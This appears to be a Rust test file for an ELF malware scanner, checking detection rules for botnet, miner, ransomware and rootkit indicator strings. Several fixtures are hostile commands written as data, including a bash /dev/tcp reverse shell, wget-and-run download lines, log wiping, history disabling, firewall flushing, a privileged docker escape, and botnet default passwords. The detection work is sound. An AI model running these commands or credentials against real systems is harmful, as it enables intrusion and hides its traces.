//! Signs in words: of bots, networks, miners and hooks, and of the bundle of tools that has them all and is none of it.

use specimens::elf::*;

use super::{fixed, misses, sees, words};

#[test]
fn words_of_bots_are_seen() {
    words("elf.symbol.bot_function", &[&["attack_init"], &["sendUDP"]], &[&["my_attack_init"], &["sendUDPPacket"]]);
    sees(ordinary().symbol("killer_kill_by_port"), "elf.symbol.bot_function");
    words("elf.string.mirai", &[&["attack_init", "killer_init"]], &[&["attack_init"]]);
    words(
        "elf.string.gafgyt",
        &[&["getRandomPublicIP", "makeRandomStr"], &["HOLD Flooding %s", "My IP: %s"], &["zprintf", "recvLine"]],
        &[&["zprintf"], &["\"connectTimeout\":", "initConnection()"]],
    );
    words("elf.string.tsunami", &[&["NOTICE %s :TSUNAMI <target> <secs>\n"]], &[&["NOTICE %s :hello"]]);
    words("elf.string.xorddos", &[&["BB2FA36AAA9541F0"]], &[&["BB2FA36AAA95"]]);
    words("elf.string.billgates", &[&["11CAttackBase"]], &[&["AttackBase"]]);
    words("elf.string.mozi", &[&["/Mozi.m"]], &[&["Mozilla"]]);
    words("elf.string.flood_vocabulary", &[&["udpflood"], &["HTTPHEX"], &["botnet"]], &[&["flooded"]]);
    words(
        "elf.string.router_exploit",
        &[&["POST /HNAP1/ HTTP/1.0"], &["/ctrlt/DeviceUpgrade_1"]],
        &[&["/cgi-bin/index"]],
    );
    words("elf.string.default_credentials", &[&["xc3511", "vizxv"], &["klv1234", "7ujMko0admin"]], &[&["xc3511"]]);
    words("elf.string.busybox_command", &[&["/bin/busybox ECCHI"]], &[&["/bin/busybox"]]);
    words("elf.string.telnet_probe", &[&["ogin:", "assword:"], &["sername", "ncorrect"]], &[&["login:", "password:"]]);
    words("elf.string.architecture_list", &[&["bot.armv4l", "bot.mipsel", "bot.powerpc"]], &[&["bot.x86_64"]]);
    words("elf.string.watchdog_device", &[&["/dev/watchdog"]], &[&["open /dev/watchdog"]]);
    words(
        "elf.string.irc_verbs",
        &[&["NICK %s\n", "PRIVMSG %s :hi"]],
        &[&["NICK %s\n"], &["ALTER USER %s PASSWORD", "LEFT JOIN %s"]],
    );
}

#[test]
fn strings_under_one_key_are_seen_whatever_the_key() {
    for key in [0x01u8, 0x22, 0x54, 0xff] {
        let table: Vec<u8> = b"\0/proc/net/tcp\0".iter().map(|byte| byte ^ key).collect();
        sees(ordinary().section(".data", 1, 3, table), "elf.string.hidden_by_xor");
    }
    words("elf.string.hidden_by_xor", &[], &[&["/proc/net/tcp", "/dev/watchdog"]]);
    let hide = |text: &[u8], key: u8| -> Vec<u8> { text.iter().map(|byte| byte ^ key).collect() };
    let with = |table: Vec<u8>| ordinary().section(".data", 1, 3, table);
    sees(with(hide(b"/dev/watchdog", 0x22)), "elf.string.mirai");
    sees(with(hide(b"/dev/watchdog\0/bin/busybox MIRAI", 0x54)), "elf.string.mirai");
    misses(with(hide(b"/dev/watchdog", 0x54)), "elf.string.mirai");
    misses(with([hide(b"/dev/watchdog", 1), hide(b"/proc/net/tcp", 2)].concat()), "elf.string.mirai");
    // Across the border of two chunks.
    let mut data = vec![0; 1 << 17];
    let start = (1 << 16) - 6 - 16 * 40;
    let hidden: Vec<u8> = b"/dev/watchdog".iter().map(|byte| byte ^ 0x37).collect();
    for at in (start..start + 16 * 60).step_by(60) {
        data[at..at + hidden.len()].copy_from_slice(&hidden);
    }
    sees(ordinary().section(".data", 1, 3, data), "elf.string.hidden_by_xor");
}

#[test]
fn words_of_networks_are_seen() {
    words("elf.string.proc_net", &[&["/proc/net/tcp"], &["/proc/net/route"]], &[&["/proc/net"]]);
    words(
        "elf.string.http_request",
        &[&["GET /x HTTP/1.1\r\nHost: %s"], &["POST %s HTTP/1.0\r\n"]],
        // In Go and Rust, strings stand side by side.
        &[&["expected HTTP/1.1\r\n"], &["GET /x"], &["netAddrConn(GET %s HTTP/1.0\n"]],
    );
    // Requests are what a library for them is for.
    misses(ordinary().soname("libfetch.so.1").strings(&["GET %s HTTP/1.0\r\n"]), "elf.string.http_request");
    words(
        "elf.string.browser_user_agent",
        &[&["Mozilla/5.0 (Windows NT 6.1; WOW64)"], &["Mozilla/4.0 (compatible; MSIE 8.0)"]],
        &[&["Mozilla/5.0 (compatible; crawler)"], &["Mozilla"]],
    );
    words(
        "elf.string.public_address",
        &[&["93.184.216.34"]],
        &[
            &["192.168.0.1"],
            &["169.254.169.254"],
            &["version 93.184.216.34"],
            &["1.2.3.4"],
            &["2.5.29.35", "2.5.4.41", "1.3.101.112", "2.23.140.1"],
            &["6.12.0.122"],
        ],
    );
    sees(fixed().strings(&["/etc/resolv.conf"]), "elf.string.own_resolver");
    words("elf.string.own_resolver", &[], &[&["/etc/resolv.conf"]]);
    words("elf.string.uclibc", &[&["__uClibc_main"]], &[&["glibc"], &["Use the uClibc C library."]]);
    sees(fixed().strings(&["/proc/net/tcp", "93.184.216.34"]), "elf.file.static_network_client");
    misses(fixed().strings(&["/proc/net/tcp"]), "elf.file.static_network_client");
    misses(ordinary().strings(&["/proc/net/tcp", "93.184.216.34"]), "elf.file.static_network_client");
}

#[test]
fn command_lines_are_seen() {
    words(
        "elf.string.download_command",
        &[&["cd x; wget http://%s/a"], &["curl -O %s"]],
        &[&["curl "], &["libcurl -o"], &["try 'curl --help' or 'curl --manual'"], &["`wget --version'"]],
    );
    words(
        "elf.string.make_executable",
        &[&["chmod 777 x"], &["chmod +x %s"]],
        &[&["chmod"], &["fchmod 777 "], &["|| chmod a+x $@"]],
    );
    words(
        "elf.string.staging_command",
        &[&["cd /tmp || cd /var/run"], &["cd /tmp; sh"]],
        &[&["cd /tmp"], &["cd /tmp/x"]],
    );
    words("elf.string.base64_pipe", &[&["echo x | base64 -d"], &["base64 --decode f|sh"]], &[&["base64 -d file"]]);
    words("elf.string.hidden_temp_path", &[&["/tmp/.bot"], &["/var/tmp/x"]], &[&["/tmp/.X11-unix"], &["/tmp/x"]]);
    words("elf.string.kill_command", &[&["pkill -9 xmr"], &["kill -9 %d"]], &[&["kill %d"]]);
    words("elf.string.firewall_change", &[&["iptables -F"], &["setenforce 0"]], &[&["iptables"]]);
    words("elf.string.history_off", &[&["unset HISTFILE"], &["history -c;"]], &[&["HISTFILE"]]);
    words("elf.string.log_wipe", &[&["rm -rf /var/log/*"]], &[&["/var/log/wtmp"]]);
    words("elf.string.reverse_shell", &[&["bash -i >& /dev/tcp/%s/%d 0>&1"]], &[&["bash"]]);
    words("elf.string.container_escape", &[&["docker run --privileged -v /:/mnt"]], &[&["docker run"]]);
}

#[test]
fn words_of_miners_and_of_extortion_are_seen() {
    words("elf.string.miner_words", &[&["stratum+tcp://"], &["donate-level"]], &[&["stratum"]]);
    words("elf.string.xmrig", &[&["XMRig/%s", "donate.v2.xmrig.com"]], &[&["XMRig/%s"]]);
    words(
        "elf.string.ransom_words",
        &[&["http://abcdefghijklmnop234567.onion/"], &["All your files have been encrypted"]],
        &[&["example.onion/"], &["files are copied"]],
    );
}

#[test]
fn words_of_staying_and_hiding_are_seen() {
    words("elf.string.preload_file", &[&["/etc/ld.so.preload"], &["/etc/ld.so.preload", "_rtld_global"]], &[]);
    words("elf.string.cron", &[&["/var/spool/cron/root"], &["(crontab -l 2>/dev/null)"]], &[&["crontab"]]);
    words("elf.string.rc_script", &[&["/etc/rc.local"]], &[&["rc.local"]]);
    words("elf.string.systemd_unit", &[&["/etc/systemd/system/x.service"]], &[&["systemd"]]);
    words("elf.symbol.hook_exports", &[&["process_to_filter"]], &[&["process"]]);
    words("elf.string.kernel_rootkit", &[&["hacked_getdents64"], &["module_hide"]], &[&["getdents64"]]);
    words("elf.string.memory_file", &[&["memfd_create"], &["fexecve"]], &[&["execve"]]);
    words("elf.string.own_executable", &[&["/proc/self/exe"]], &[&["/proc/self"]]);
}

#[test]
fn libraries_that_hook_are_seen() {
    let library = |exports: &[&str], imports: &[&str]| {
        let mut builder = elf().elf_type(ET_DYN).load(R | X, [0x90; 64]);
        for name in exports {
            builder = builder.dynamic_symbol(name, true);
        }
        for name in imports {
            builder = builder.dynamic_symbol(name, false);
        }
        builder
    };
    let hooks = ["readdir", "readdir64", "open", "stat", "unlink"];
    for builder in [library(&hooks, &["dlsym"]), library(&hooks, &["dlsym"]).narrow().machine(3)] {
        sees(builder, "elf.symbol.hook_exports");
    }
    misses(library(&hooks, &[]), "elf.symbol.hook_exports");
    misses(library(&["readdir", "open"], &["dlsym"]), "elf.symbol.hook_exports");
    misses(library(&[], &[&hooks[..], &["dlsym"]].concat()), "elf.symbol.hook_exports");
}

/// Names of tools, in order, as the bundle's table has them.
fn tools(count: usize) -> String {
    let mut names: Vec<String> = (0..count).map(|number| format!("m{number:03}")).collect();
    names.extend(["mkdir".to_owned(), "mount".to_owned()]);
    names.join("\0")
}

/// The bundle: its texts, its table and as much code as `code` bytes.
fn bundle(code: usize, table: &str) -> ElfBuilder {
    let texts = ["BusyBox v1.36.1", "multi-call binary", "%s: applet not found", "/proc/net/tcp", "/etc/init.d/rcS"];
    elf().load(R | X, vec![0x90; code]).strings(&texts).strings(&[table])
}

#[test]
fn the_bundle_of_tools_is_known_by_more_than_its_words() {
    let known = "elf.file.multi_call_tools";
    sees(bundle(256 << 10, &tools(100)), known);
    sees(bundle(256 << 10, &tools(100)).narrow().big_endian().machine(8), known);
    // Words alone, a short table, a table out of order, and little code excuse nothing.
    misses(bundle(256 << 10, ""), known);
    misses(bundle(256 << 10, &tools(20)), known);
    misses(bundle(256 << 10, &tools(100).split('\0').rev().collect::<Vec<_>>().join("\0")), known);
    misses(bundle(8 << 10, &tools(100)), known);
}

#[test]
fn any_other_sign_voids_the_excuse_of_the_bundle() {
    let known = "elf.file.multi_call_tools";
    for word in [
        "udpflood",
        "hacked_getdents64",
        "process_to_filter",
        "chmod +x /tmp/x",
        "unset HISTFILE",
        "files have been encrypted",
        "curl -s http://x",
        "93.184.216.34",
        "stratum+tcp://",
        "/etc/ld.so.preload",
    ] {
        misses(bundle(256 << 10, &tools(100)).strings(&[word]), known);
    }
    misses(bundle(256 << 10, &tools(100)).overlay([7; 100]), known);
}

#[test]
fn names_that_a_library_offers_to_others_are_no_bots_functions() {
    let library = || elf().elf_type(ET_DYN).load(R | X, [0x90; 64]).soname("libnet.so.1");
    misses(library().bound_symbol("sendUDP", true).bound_symbol("syn_flood", true), "elf.symbol.bot_function");
    misses(library().bound_symbol("sendUDP", true).bound_symbol("syn_flood", true), "elf.string.flood_vocabulary");
    // A program's own names and what stands elsewhere stay what they are; so does what rootkits export.
    sees(ordinary().symbol("sendUDP"), "elf.symbol.bot_function");
    sees(library().bound_symbol("puts", false).strings(&["sendUDP"]), "elf.symbol.bot_function");
    sees(library().bound_symbol("hooked_readdir", true), "elf.symbol.hook_exports");
    sees(
        library().bound_symbol("hacked_getdents64", true).strings(&["hacked_getdents64"]),
        "elf.string.kernel_rootkit",
    );
}

#[test]
fn words_are_found_at_every_alignment() {
    for shift in 0..16 {
        let text = format!("{}udpflood", "\0".repeat(shift));
        sees(ordinary().strings(&[&text]), "elf.string.flood_vocabulary");
    }
}
